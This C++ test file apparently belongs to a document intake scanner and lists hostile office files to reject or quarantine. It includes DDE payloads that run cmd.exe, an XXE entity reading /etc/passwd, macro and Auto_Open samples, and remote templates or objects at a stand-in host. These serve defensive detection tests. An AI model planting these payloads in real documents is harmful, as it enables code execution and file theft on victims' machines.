// Documents of office programs that run, fetch or hide something.
#include "case.h"
#include "offices.h"
#include "pdfs.h"
#include "zips.h"

namespace intake_tests {
namespace {

using namespace std::string_literals;

const std::string kWord = "<w:document xmlns:w=\"w\"><w:body>";
const std::string kEndWord = "</w:body></w:document>";

base::Bytes document(const std::string& body) {
  return docx({{"word/document.xml", kWord + body + kEndWord}});
}

base::Bytes documentLinking(const std::string& type, const std::string& target) {
  return docx({{"word/_rels/document.xml.rels", relations(external(type, target))}});
}

std::string override_(const std::string& part, const std::string& type) {
  return "<Override PartName=\"" + part + "\" ContentType=\"" + type + "\"/>";
}

const std::string kMainDocument =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

}  // namespace

Cases hostileOfficeFiles() {
  return {
      {"DOCM", "a.docm",
       ooxml("application/vnd.ms-word.document.macroEnabled.main+xml", {{"word/vbaProject.bin", compound()}}),
       kReject, "office-macros"},
      {"macros in a DOCX", "a.docx", docx({{"word/vbaProject.bin", compound()}}), kReject, "office-macros"},
      {"macros under another name", "a.docx",
       ooxml(kMainDocument, {{"word/gambar.bin", "x"}},
             override_("/word/gambar.bin", "application/vnd.ms-office.vbaProject")),
       kReject, "office-macros"},
      {"macros, name in capitals", "a.docx", docx({{"WORD/VBAPROJECT.BIN", "x"}}), kReject, "office-macros"},
      {"XLSM", "a.xlsm", xlsx({{"xl/vbaProject.bin", compound()}}), kReject, "office-macros"},
      {"an Excel 4.0 macro sheet", "a.xlsx",
       xlsx({{"xl/macrosheets/sheet2.xml", "<xm:macrosheet xmlns:xm=\"x\"/>"}}), kReject,
       "office-xlm-macros"},
      {"a macro sheet by its content type", "a.xlsx",
       ooxml(kMainDocument, {}, override_("/xl/a.xml", "application/vnd.ms-excel.macrosheet+xml")), kReject,
       "office-xlm-macros"},
      {"Auto_Open", "a.xlsx",
       xlsx({{"xl/workbook.xml",
              "<workbook><definedNames><definedName "
              "name=\"_xlnm.Auto_Open\">A1</definedName></definedNames></workbook>"}}),
       kReject, "office-xlm-macros"},
      {"a dialog sheet", "a.xlsx", xlsx({{"xl/dialogsheets/sheet1.xml", "<dialogsheet/>"}}), kReject,
       "office-xlm-macros"},
      {"ActiveX", "a.docx", docx({{"word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"a\"/>"}}), kReject,
       "office-activex"},
      {"ActiveX by its content type", "a.docx",
       ooxml(kMainDocument, {}, override_("/word/a.xml", "application/vnd.ms-office.activeX+xml")), kReject,
       "office-activex"},
      {"a template elsewhere", "a.docx",
       docx({{"word/_rels/settings.xml.rels",
              relations(external("attachedTemplate", "http://jahat.example/a.dotm"))}}),
       kReject, "office-external-template"},
      {"a template on a share", "a.docx", documentLinking("attachedTemplate", "file:///\\\\jahat\\a.dotm"),
       kReject, "office-external-template"},
      {"an object elsewhere", "a.docx", documentLinking("oleObject", "http://jahat.example/a"), kReject,
       "office-external-object"},
      {"a picture elsewhere", "a.docx", documentLinking("image", "http://jahat.example/a.png"), kQuarantine,
       "office-external-image"},
      {"a frame elsewhere", "a.docx", documentLinking("frame", "http://jahat.example/"), kQuarantine,
       "office-external-link"},
      {"a link to a share", "a.docx", documentLinking("hyperlink", "file://jahat/a"), kQuarantine,
       "office-external-link"},
      {"a sub-document elsewhere", "a.docx", documentLinking("subDocument", "http://jahat.example/b.docx"),
       kQuarantine, "office-external-link"},
      {"a workbook elsewhere", "a.xlsx",
       xlsx({{"xl/externalLinks/_rels/externalLink1.xml.rels",
              relations(external("externalLinkPath", "anggaran.xlsx"))}}),
       kQuarantine, "office-external-link"},
      {"DDE of a workbook", "a.xlsx",
       xlsx({{"xl/externalLinks/externalLink1.xml",
              "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"}}),
       kReject, "office-dde"},
      {"an OLE link of a workbook", "a.xlsx",
       xlsx({{"xl/externalLinks/externalLink1.xml", "<externalLink><oleLink progId=\"a\"/></externalLink>"}}),
       kReject, "office-external-object"},
      {"DDE in a formula", "a.xlsx",
       workbook("<row r=\"1\"><c r=\"A1\"><f>cmd|'/C calc'!A0</f><v>0</v></c></row>"), kReject, "office-dde",
       "Lembar1"},
      {"a formula that calls an address", "a.xlsx",
       workbook("<row r=\"1\"><c r=\"A1\"><f>_xlfn.WEBSERVICE(\"http://jahat.example\")</f></c></row>"),
       kQuarantine, "office-external-link", "Lembar1"},
      {"DDE in a field", "a.docx",
       document("<w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;\"/>"), kReject,
       "office-dde"},
      {"DDE over several runs", "a.docx",
       document(
           "<w:r><w:fldChar "
           "w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO "
           "cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"),
       kReject, "office-dde"},
      {"a field that includes an address", "a.docx",
       document("<w:fldSimple w:instr=\"INCLUDEPICTURE http://jahat.example/a.png\"/>"), kQuarantine,
       "office-external-link"},
      {"an OLE object", "a.docx", docx({{"word/embeddings/oleObject1.bin", compound()}}), kReject,
       "office-ole-object"},
      {"an OLE object under another name", "a.docx", docx({{"word/media/image1.png", compound()}}), kReject,
       "office-ole-object"},
      {"an OLE object of a slide", "a.pptx",
       pptx({{"ppt/slides/slide1.xml", "<p:sld xmlns:p=\"p\"><p:oleObj/></p:sld>"}}), kReject,
       "office-ole-object"},
      {"a workbook in a document", "a.docx", docx({{"word/embeddings/a.xlsx", xlsx()}}), kQuarantine,
       "office-embedded-file", "word/embeddings/a.xlsx"},
      {"a workbook with macros in a document", "a.docx",
       docx({{"word/embeddings/a.xlsm", xlsx({{"xl/vbaProject.bin", "x"}})}}), kReject, "office-macros",
       "word/embeddings/a.xlsm/xl/vbaproject.bin"},
      {"a PDF in a document", "a.docx", docx({{"word/embeddings/a.pdf", pdfOf()}}), kQuarantine,
       "office-embedded-file"},
      {"a program in a document", "a.docx", docx({{"word/media/image1.jpg", "MZ\x90\x01\x02\x03"}}), kReject,
       "executable", "word/media/image1.jpg"},
      {"a part of another format (altChunk)", "a.docx", document("<w:altChunk/>"), kQuarantine,
       "office-embedded-file"},
      {"a very hidden sheet", "a.xlsx",
       xlsx({{"xl/workbook.xml",
              "<workbook><sheets><sheet name=\"Rahasia\" state=\"veryHidden\"/></sheets></workbook>"}}),
       kQuarantine, "office-very-hidden-sheet", "Rahasia"},
      {"a connection to a database", "a.xlsx", xlsx({{"xl/connections.xml", "<connections/>"}}), kQuarantine,
       "office-data-connection"},
      {"sound on a slide", "a.pptx",
       pptx({{"ppt/slides/slide1.xml", "<p:sld xmlns:p=\"p\"><p:snd/></p:sld>"}}), kQuarantine,
       "office-media"},
      {"a DTD", "a.docx",
       docx({{"word/document.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"}}),
       kReject, "xml-doctype", "word/document.xml"},
      {"a DTD in UTF-16", "a.docx",
       docx({{"word/document.xml", "\xFF\xFE<\0!\0D\0O\0C\0T\0Y\0P\0E\0 \0a\0>\0<\0a\0/\0>\0"s}}), kReject,
       "xml-doctype"},
      {"broken XML", "a.docx", document("<w:p>"), kReject, "damaged", "word/document.xml"},
      {"a part that is no text", "a.docx", docx({{"word/document.xml", "\0\1\2"s}}), kReject, "damaged"},
      {"an unknown main part", "a.docx", ooxml("application/vnd.jahat+xml", {}), kReject, "type-unknown"},
      {"a binary workbook (XLSB)", "a.xlsb",
       ooxml("application/vnd.ms-excel.sheet.binary.macroEnabled.main", {}), kReject, "type-unknown"},
      {"locked by a password", "a.docx", compound("E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0"s),
       kReject, "encrypted"},
      {"DOC of 1997", "a.doc", compound(), kReject, "legacy-office"},
      {"macros of LibreOffice", "a.odt",
       odf("text", {{"Basic/Standard/Modul1.xml", "<script:module xmlns:script=\"s\"/>"}}), kReject,
       "office-macros"},
      {"Python of LibreOffice", "a.ods", odf("spreadsheet", {{"Scripts/python/a.py", "import os\n"}}),
       kReject, "office-macros"},
      {"a script of an event", "a.odt",
       odf("text",
           {{"content.xml",
             odfContent("<office:event-listeners><script:event-listener/></office:event-listeners>")}}),
       kReject, "office-macros"},
      {"DDE of LibreOffice", "a.ods",
       odf("spreadsheet",
           {{"content.xml", odfContent("<table:dde-link><office:dde-source/></table:dde-link>")}}),
       kReject, "office-dde"},
      {"a table from elsewhere", "a.ods",
       odf("spreadsheet",
           {{"content.xml", odfContent("<table:table><table:table-source "
                                       "xlink:href=\"http://jahat.example/a.ods\"/></table:table>")}}),
       kQuarantine, "office-external-link"},
      {"a section from elsewhere", "a.odt",
       odf("text",
           {{"content.xml", odfContent("<text:section><text:section-source "
                                       "xlink:href=\"http://jahat.example/a.odt\"/></text:section>")}}),
       kQuarantine, "office-external-link"},
      {"a picture elsewhere (ODT)", "a.odt",
       odf("text", {{"content.xml", odfContent("<draw:image xlink:href=\"http://jahat.example/a.png\"/>")}}),
       kQuarantine, "office-external-image"},
      {"an object elsewhere (ODT)", "a.odt",
       odf("text", {{"content.xml", odfContent("<draw:object xlink:href=\"file:///a.ods\"/>")}}), kReject,
       "office-external-object"},
      {"an OLE object (ODT)", "a.odt",
       odf("text", {{"content.xml", odfContent("<draw:object-ole xlink:href=\"./Object 1\"/>")}}), kReject,
       "office-ole-object"},
      {"a frame of another page", "a.odt",
       odf("text", {{"content.xml", odfContent("<draw:floating-frame/>")}}), kReject,
       "office-external-object"},
      {"locked by a password (ODT)", "a.odt",
       odf("text",
           {{"META-INF/manifest.xml",
             "<m:manifest xmlns:m=\"m\"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>"}}),
       kReject, "encrypted"},
      {"a DTD (ODT)", "a.odt", odf("text", {{"content.xml", "<!DOCTYPE a><a/>"}}), kReject, "xml-doctype"},
      {"a drawing (ODG)", "a.odg", odf("graphics"), kReject, "type-unknown"},
      {"a mimetype that is deflated", "a.odt",
       packed({{"mimetype", "application/vnd.oasis.opendocument.text"}, {"META-INF/manifest.xml", "<a/>"}}),
       kReject, "type-unknown"},
      {"names of files that it draws upon", "a.xlsx",
       xlsx({{"xl/externalLinks/_rels/externalLink1.xml.rels",
              relations(external("externalLinkPath", "anggaran.xlsx"))}}),
       kQuarantine, "outgoing-external-links"},
  };
}

}  // namespace intake_tests
